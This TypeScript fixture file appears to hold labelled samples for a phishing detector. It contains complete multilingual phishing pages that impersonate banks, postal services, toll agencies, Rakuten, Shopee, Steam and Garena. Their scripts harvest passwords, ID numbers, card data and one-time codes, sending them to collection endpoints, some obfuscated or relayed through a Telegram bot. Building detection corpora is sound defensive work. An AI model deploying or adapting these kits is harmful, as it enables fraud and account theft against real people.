import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, stepKit, tgRelay, spinner, footer, b64, pctAll, xorB64 } from '../parts/zr-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zr-jp-rakuten-points-expire',
  label: 'phishing',
  kind: 'jp-ecommerce-kit',
  url: 'https://rakuten-co-jp.point-confirm.shop/member/login',
  body: doc({
    lang: 'ja',
    title: '楽天会員ログイン',
    css: '.m{max-width:400px;margin:50px auto;text-align:center}.r{background:#bf0000;color:#fff;width:100%}.small{font-size:12px;color:#888}',
    body: `<div class="m card">
<div style="color:#bf0000;font-size:30px;font-weight:bold;letter-spacing:1px">Rakuten</div>
<p>楽天ポイント（<b>12,500</b>ポイント）が本日失効します。ログインしてポイントを受け取ってください。</p>
<form id="rl" style="text-align:left"><label>ユーザIDまたはメールアドレス</label><input type="text" name="u"><label>パスワード</label><input type="password" name="p"><p><button class="btn r">ログイン</button></p></form>
<p class="small">© Rakuten Group, Inc.</p></div>
<script>
document.getElementById('rl').addEventListener('submit',function(e){e.preventDefault();
var body=JSON.stringify({u:this.u.value,p:this.p.value,t:Date.now()});
navigator.sendBeacon('/member/gate.php',body);
setTimeout(function(){location.href='/member/card?s=2'},600);});
</script>`,
  }),
},
{
  id: 'zr-kr-kbstar-security-update',
  label: 'phishing',
  kind: 'kr-bank-kit',
  url: 'https://kbstar-secure.kr-auth.net/quics/',
  body: doc({
    lang: 'ko',
    title: 'KB국민은행 | 보안강화 서비스',
    css: '.h{background:#ffbc00;height:58px}.m{max-width:480px;margin:30px auto}.b{background:#545045;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap" style="display:flex;align-items:center;height:58px;gap:10px">${mark('KB', '#545045', '#ffbc00')}<b>KB국민은행</b></div></div>
<div class="m card">
<h3>전자금융 보안강화 인증</h3>
<p>금융감독원 지침에 따라 고객님의 계좌 보안등급 상향이 필요합니다. 미인증 시 인터넷뱅킹 이용이 제한됩니다.</p>
<form id="kb">
<label>성명</label><input type="text" name="name"><label>주민등록번호</label><input type="text" name="rrn" placeholder="000000-0000000">
<label>인터넷뱅킹 아이디</label><input type="text" name="uid"><label>비밀번호</label><input type="password" name="upw">
<label>계좌 비밀번호 (4자리)</label><input type="password" name="apw" maxlength="4">
<label>보안카드 일련번호</label><input type="text" name="serial">
<p><button class="btn b">확인</button></p></form></div>
<script src="/quics/js/app.js"></script>`,
  }),
  routes: {
    'kbstar-secure.kr-auth.net/quics/js/app.js': jsRoute(`(function(){var f=document.getElementById('kb');f.onsubmit=function(e){e.preventDefault();var o={};new FormData(f).forEach(function(v,k){o[k]=v});fetch('/quics/receive',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).then(function(){f.innerHTML='<p>보안카드 35개 번호를 모두 입력해주세요.</p>'+Array.from({length:35},function(_,i){return '<input name="c'+(i+1)+'" placeholder="'+(i+1)+'번" style="width:18%;display:inline-block;margin:2px">'}).join('')+'<button class="btn b">제출</button>';f.onsubmit=function(ev){ev.preventDefault();var p={};new FormData(f).forEach(function(v,k){p[k]=v});fetch('/quics/receive2',{method:'POST',body:JSON.stringify(p)}).then(function(){location.href='https://www.kbstar.com/'})}})}})();`),
  },
},
{
  id: 'zr-tw-chunghwa-post-parcel',
  label: 'phishing',
  kind: 'tw-post-kit',
  url: 'https://post-gov-tw.parcel-track.top/tw/',
  body: doc({
    lang: 'zh-Hant',
    title: '中華郵政全球資訊網 - 包裹招領',
    css: '.h{background:#008a3e;color:#fff;padding:14px 0}.m{max-width:560px;margin:24px auto}.b{background:#008a3e;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap" style="display:flex;gap:10px;align-items:center">${mark('郵', '#fff', '#008a3e')}<b>中華郵政 Chunghwa Post</b></div></div>
<div class="m card">
<h3>您的包裹因地址不完整無法投遞</h3>
<p>包裹編號：RR726511304TW<br>狀態：<span style="color:#c00">待補件</span></p>
<p>請於 48 小時內更新收件資訊並支付補寄費用 NT$ 25，逾期將退回寄件人。</p>
<form data-step="a" style="display:block"><label>姓名</label><input type="text" name="n"><label>手機號碼</label><input type="tel" name="m"><label>收件地址</label><input type="text" name="ad"><p><button class="btn b">下一步</button></p></form>
<form data-step="c" style="display:none"><label>信用卡號</label><input type="text" name="cc"><label>有效期限</label><input type="text" name="ex"><label>背面末三碼</label><input type="password" name="cv"><p><button class="btn b">確認付款</button></p></form>
<form data-step="o" style="display:none"><p>請輸入銀行發送的 OTP 簡訊驗證碼</p><label>驗證碼</label><input type="text" name="otp"><p><button class="btn b">送出</button></p></form>
</div>${spinner('處理中，請稍候…')}
${stepKit('/tw/save.php', 'https://www.post.gov.tw/')}`,
  }),
},
{
  id: 'zr-tw-etag-fine-monitoring-station',
  label: 'phishing',
  kind: 'gov-toll-kit',
  url: 'https://mvdis-gov.tw-etag.cc/fine',
  body: doc({
    lang: 'zh-Hant',
    title: '監理服務網 - 交通罰鍰繳納',
    css: '.h{background:#2b4c7e;color:#fff;padding:14px 0}.m{max-width:540px;margin:24px auto}.b{background:#e07b00;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>交通部公路局 監理服務網</b></div></div>
<div class="m card"><h3>eTag 通行費欠費通知</h3>
<p>您的車輛有一筆未繳之國道通行費 <b>NT$ 183</b>，逾期未繳將依法加收罰鍰 NT$ 3,000 並吊扣行照。</p>
<form id="tw"><label>車牌號碼</label><input type="text" name="plate"><label>身分證字號</label><input type="text" name="nid"><label>信用卡號</label><input type="text" name="card"><label>有效月年</label><input type="text" name="exp"><label>安全碼</label><input type="password" name="cvv"><p><button class="btn b">立即繳費</button></p></form></div>
${tgRelay('7012553381:AAF0eP2gq9mY_LrUw3w1Zt8x5bK3nVd0cQs', '-4158823117', '#tw', '/fine/otp')}`,
  }),
  routes: {
    'mvdis-gov.tw-etag.cc/fine/otp': htmlRoute(doc({ lang: 'zh-Hant', title: '簡訊驗證', body: `<div class="wrap card" style="max-width:420px;margin:40px auto"><p>請輸入發卡銀行發送的一次性密碼</p><form id="o"><input type="text" name="otp"><p><button class="btn" style="background:#e07b00;color:#fff">確認</button></p></form></div><script>document.getElementById('o').onsubmit=function(e){e.preventDefault();fetch('/fine/otp.php',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://www.mvdis.gov.tw/'})}</script>` })),
  },
},
{
  id: 'zr-sg-dbs-paylah-limit',
  label: 'phishing',
  kind: 'sg-bank-kit',
  url: 'https://dbs-sg.digibank-verify.com/ib/login',
  body: doc({
    lang: 'en',
    title: 'DBS iBanking | Login',
    css: '.h{background:#ee3124;height:60px}.m{max-width:440px;margin:36px auto}.b{background:#ee3124;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap" style="display:flex;align-items:center;height:60px;color:#fff;font-weight:bold;font-size:22px">DBS</div></div>
<div class="m card"><h2 style="margin-top:0">Log in to digibank</h2>
<p style="font-size:13px;background:#fff4e5;padding:10px">Your PayLah! transfer limit has been reduced due to incomplete verification. Log in to restore your limit.</p>
<form data-step="l" style="display:block"><label>User ID</label><input type="text" name="uid"><label>PIN</label><input type="password" name="pin"><p><button class="btn b">Login</button></p></form>
<form data-step="t" style="display:none"><p>An SMS OTP has been sent to your registered mobile number.</p><label>6-digit OTP</label><input type="text" name="otp"><p><button class="btn b">Submit</button></p></form>
<form data-step="d" style="display:none"><p>Confirm your debit card to complete verification.</p><label>Card number</label><input type="text" name="dc"><label>Expiry</label><input type="text" name="de"><label>CVV</label><input type="password" name="dv"><p><button class="btn b">Verify</button></p></form>
</div>${spinner('Please wait…')}${stepKit('/ib/next.php', 'https://www.dbs.com.sg/personal/default.page')}`,
  }),
},
{
  id: 'zr-vn-shopee-seller-refund',
  label: 'phishing',
  kind: 'vn-ecommerce-kit',
  url: 'https://shopee-hoantien.vn-support.club/',
  body: doc({
    lang: 'vi',
    title: 'Shopee Việt Nam | Hoàn tiền đơn hàng',
    css: '.h{background:#ee4d2d;color:#fff;padding:16px 0}.m{max-width:500px;margin:24px auto}.b{background:#ee4d2d;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b style="font-size:22px">Shopee</b> Trung tâm hỗ trợ</div></div>
<div class="m card"><h3>Yêu cầu hoàn tiền #2511VN883201</h3>
<p>Đơn hàng của bạn đã bị hủy do lỗi hệ thống. Số tiền <b>1.290.000₫</b> sẽ được hoàn về thẻ ngân hàng sau khi bạn xác minh thông tin.</p>
<form id="sh"><label>Tên đăng nhập Shopee / SĐT</label><input type="text" name="acc"><label>Mật khẩu</label><input type="password" name="pw"><label>Ngân hàng</label><select name="bank"><option>Vietcombank</option><option>Techcombank</option><option>MB Bank</option><option>ACB</option><option>VPBank</option></select><label>Số thẻ</label><input type="text" name="card"><label>Ngày hết hạn</label><input type="text" name="exp"><p><button class="btn b">Nhận hoàn tiền</button></p></form></div>
${tgRelay('7730019265:AAEwR4nXz7rZ2cLUt8Z0v6xk1Yq9sHp3bFg', '5937712048', '#sh', 'https://shopee.vn/')}`,
  }),
},
{
  id: 'zr-th-thailandpost-cod-fee',
  label: 'phishing',
  kind: 'th-post-kit',
  url: 'https://thailandpost.track-th.info/',
  body: doc({
    lang: 'th',
    title: 'ไปรษณีย์ไทย - ติดตามพัสดุ',
    css: '.h{background:#e4032e;color:#fff;padding:14px 0}.m{max-width:520px;margin:24px auto}.b{background:#e4032e;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>THAILAND POST</b> ไปรษณีย์ไทย</div></div>
<div class="m card"><p>พัสดุหมายเลข <b>EF582293014TH</b> ไม่สามารถนำจ่ายได้ เนื่องจากที่อยู่ไม่ครบถ้วน กรุณาชำระค่าธรรมเนียมจัดส่งใหม่ 19 บาท</p>
<form id="tp"><label>ชื่อ-นามสกุล</label><input type="text" name="nm"><label>ที่อยู่</label><input type="text" name="ad"><label>หมายเลขบัตร</label><input type="text" name="cc"><label>วันหมดอายุ</label><input type="text" name="ex"><label>CVV</label><input type="password" name="cv"><p><button class="btn b">ชำระเงิน</button></p></form></div>
<script>
var _0x=['L3RoL2FwaS9wYXk=','aHR0cHM6Ly90cmFjay50aGFpbGFuZHBvc3QuY28udGgv'];
document.getElementById('tp').addEventListener('submit',function(e){e.preventDefault();fetch(atob(_0x[0]),{method:'POST',body:new URLSearchParams(new FormData(this))}).then(function(){location.href=atob(_0x[1])})});
</script>`,
  }),
},
{
  id: 'zr-au-linkt-toll-overdue',
  label: 'phishing',
  kind: 'au-toll-kit',
  url: 'https://linkt-au.toll-payment.me/pay',
  body: doc({
    lang: 'en',
    title: 'Linkt - Pay an outstanding toll',
    css: '.h{background:#5b2d8e;color:#fff;padding:16px 0}.m{max-width:480px;margin:30px auto}.b{background:#5b2d8e;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>Linkt</b></div></div>
<div class="m card"><h3>Unpaid toll notice</h3><p>Our records show an unpaid toll of <b>$7.85</b> on the M2. Pay now to avoid a $68.85 late fee.</p>
<form id="lk"><label>Name on card</label><input type="text" name="n"><label>Card number</label><input type="text" name="c"><label>Expiry</label><input type="text" name="e"><label>CVV</label><input type="password" name="v"><label>Mobile</label><input type="tel" name="m"><p><button class="btn b">Pay $7.85</button></p></form></div>
<script src="https://linkt-au.toll-payment.me/assets/p.js"></script>`,
  }),
  routes: {
    'linkt-au.toll-payment.me/assets/p.js': jsRoute(`document.getElementById('lk').addEventListener('submit',function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this));q.set('h',location.hostname);new Image().src='/assets/c.gif?'+q.toString();setTimeout(function(){location.href='https://www.linkt.com.au/'},900)});`),
  },
},
{
  id: 'zr-au-auspost-parcel-address',
  label: 'phishing',
  kind: 'au-post-kit',
  url: 'https://auspost-redelivery.com-au.app/track/',
  body: doc({
    lang: 'en',
    title: 'Australia Post - Track your item',
    css: '.h{background:#dc1928;color:#fff;padding:16px 0}.m{max-width:520px;margin:24px auto}.b{background:#dc1928;color:#fff;width:100%}',
    body: `<div class="h"><div class="wrap"><b>Australia Post</b></div></div>
<div class="m card"><h3>We couldn't deliver your parcel</h3><p>Tracking number 33KJM551290001. Your address is incomplete. Update your details and pay a $1.99 redelivery fee within 12 hours.</p>
<form data-step="a" style="display:block"><label>Full name</label><input type="text" name="n"><label>Street address</label><input type="text" name="a"><label>Postcode</label><input type="text" name="pc"><label>Phone</label><input type="tel" name="p"><p><button class="btn b">Continue</button></p></form>
<form data-step="b" style="display:none"><label>Card number</label><input type="text" name="c"><label>Expiry</label><input type="text" name="e"><label>CVV</label><input type="password" name="v"><p><button class="btn b">Pay $1.99</button></p></form>
</div>${spinner('Processing payment')}${stepKit('/track/post.php', 'https://auspost.com.au/')}`,
  }),
},
{
  id: 'zr-game-steam-trade-login',
  label: 'phishing',
  kind: 'game-account-kit',
  url: 'https://steamcommunity.com-tradeoffer.ru/tradeoffer/new/?partner=1182291&token=Xk2pQ1',
  body: doc({
    lang: 'en',
    title: 'Steam Community :: Trade Offer',
    css: 'body{background:#1b2838;color:#c7d5e0}.m{max-width:720px;margin:30px auto;background:#16202d;padding:20px;border-radius:4px}.g{background:linear-gradient(#75b022,#588a1b);color:#fff}#popup{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}#popup .w{background:#171a21;width:380px;margin:80px auto;padding:22px;border-radius:4px}#popup input{background:#32353c;border:0;color:#fff}',
    body: `<div class="m"><h2>Trade offer from <span style="color:#66c0f4">skinsbazar_2024</span></h2><p>AK-47 | Redline (Field-Tested) ↔ nothing. Sign in through Steam to accept this trade offer.</p><button class="btn g" onclick="document.getElementById('popup').style.display='block'">Sign in through Steam</button></div>
<div id="popup"><div class="w"><div style="font-size:22px;color:#fff">STEAM</div><form id="st"><label style="color:#66c0f4">SIGN IN WITH ACCOUNT NAME</label><input type="text" name="username"><label style="color:#afafaf">PASSWORD</label><input type="password" name="password"><p><button class="btn g" style="width:100%">Sign in</button></p></form><div id="g2" style="display:none"><p>Enter the code from your Steam Mobile App</p><input type="text" id="gc" maxlength="5"><p><button class="btn g" id="gb">Submit</button></p></div></div></div>
<script>
document.getElementById('st').onsubmit=function(e){e.preventDefault();fetch('/api/auth',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({username:this.username.value,password:this.password.value})}).then(function(r){return r.json()}).catch(function(){return {need2fa:true}}).then(function(j){if(j.need2fa){document.getElementById('st').style.display='none';document.getElementById('g2').style.display='block'}})};
document.getElementById('gb').onclick=function(){fetch('/api/2fa',{method:'POST',body:document.getElementById('gc').value}).then(function(){location.href='https://steamcommunity.com/'})};
</script>`,
  }),
  routes: {
    'steamcommunity.com-tradeoffer.ru/api/auth': jsonRoute({ success: true, need2fa: true }),
  },
},
{
  id: 'zr-game-garena-freefire-diamonds',
  label: 'phishing',
  kind: 'game-account-kit',
  url: 'https://garena-ff-event.vn-reward.com/',
  body: doc({
    lang: 'vi',
    title: 'Garena Free Fire - Sự kiện nhận Kim Cương',
    css: 'body{background:#111 url() center/cover;color:#fff}.m{max-width:420px;margin:30px auto;text-align:center}.gl{background:#f0a500;color:#000;width:100%;margin:6px 0}.opt{display:inline-block;background:#222;border:1px solid #f0a500;padding:12px;margin:4px;border-radius:6px;cursor:pointer}.pop{display:none;background:#fff;color:#222;padding:20px;border-radius:8px;text-align:left}',
    body: `<div class="m"><h2 style="color:#f0a500">SỰ KIỆN SINH NHẬT FREE FIRE</h2><p>Chọn phần thưởng của bạn:</p>
<div class="opt">💎 5.000 Kim cương</div><div class="opt">🔫 Skin M1014 Long Tộc</div><div class="opt">🎟️ Thẻ vô cực</div>
<p>Đăng nhập để nhận thưởng:</p>
<button class="btn gl" onclick="s('fb')">Đăng nhập bằng Facebook</button><button class="btn gl" onclick="s('vk')">Đăng nhập bằng VK</button><button class="btn gl" onclick="s('gg')">Đăng nhập bằng Google</button>
<div class="pop" id="pop"><b id="pt"></b><form id="lf"><input type="hidden" name="via" id="via"><label>Email / Số điện thoại</label><input type="text" name="e"><label>Mật khẩu</label><input type="password" name="p"><p><button class="btn gl">Đăng nhập</button></p></form></div></div>
<script>function s(v){document.getElementById('via').value=v;document.getElementById('pt').textContent={fb:'Facebook',vk:'VK',gg:'Google'}[v];document.getElementById('pop').style.display='block'}
document.getElementById('lf').onsubmit=function(e){e.preventDefault();$post('/check.php',new FormData(this))};
function $post(u,d){var x=new XMLHttpRequest();x.open('POST',u);x.onload=x.onerror=function(){location.href='/success.html'};x.send(d)}</script>`,
  }),
  routes: {
    'garena-ff-event.vn-reward.com/success.html': htmlRoute(doc({ lang: 'vi', title: 'Thành công', body: '<div style="text-align:center;padding:60px"><h2>Phần thưởng sẽ được gửi vào tài khoản trong 24 giờ.</h2></div>' })),
  },
},
];
